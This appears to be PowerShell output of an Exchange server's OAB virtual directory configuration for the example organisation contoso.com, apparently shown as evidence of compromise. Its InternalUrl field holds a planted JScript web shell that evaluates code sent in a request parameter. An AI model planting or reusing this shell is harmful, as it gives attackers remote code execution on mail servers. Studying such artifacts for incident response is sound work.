

RunspaceId                      : 8f285066-e342-06ae-93c7-2d578aed9406
PollInterval                    : 480
OfflineAddressBooks             :
RequireSSL                      : True
BasicAuthentication             : False
WindowsAuthentication           : True
OAuthAuthentication             : True
MetabasePath                    : IIS://mbx02.corp.contoso.com/W3SVC/1/ROOT/OAB
Path                            : C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB
ExtendedProtectionTokenChecking : None
ExtendedProtectionFlags         : {}
ExtendedProtectionSPNList       : {}
AdminDisplayVersion             : Version 15.1 (Build 2106.2)
Server                          : MBX02
InternalUrl                     : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["exec_code"],"unsafe");}</script>
InternalAuthenticationMethods   : {WindowsIntegrated}
ExternalUrl                     : https://mail.contoso.com/OAB
ExternalAuthenticationMethods   : {WindowsIntegrated}
AdminDisplayName                :
ExchangeVersion                 : 0.10 (14.0.100.0)
Name                            : OAB (Default Web Site)
DistinguishedName               : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=MBX02,CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Contoso,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=corp,DC=contoso,DC=com
Identity                        : MBX02\OAB (Default Web Site)
Guid                            : f98d122c-719f-4bf7-9969-1510509c9e89
ObjectCategory                  : corp.contoso.com/Configuration/Schema/ms-Exch-OAB-Virtual-Directory
ObjectClass                     : {top, msExchVirtualDirectory, msExchOABVirtualDirectory}
WhenChanged                     : 3/3/2021 2:14:27 AM
WhenCreated                     : 10/12/2020 9:31:05 AM
WhenChangedUTC                  : 3/3/2021 10:14:27 AM
WhenCreatedUTC                  : 10/12/2020 4:31:05 PM
OrganizationId                  :
Id                              : MBX02\OAB (Default Web Site)
OriginatingServer               : DC01.corp.contoso.com
IsValid                         : True
ObjectState                     : Unchanged


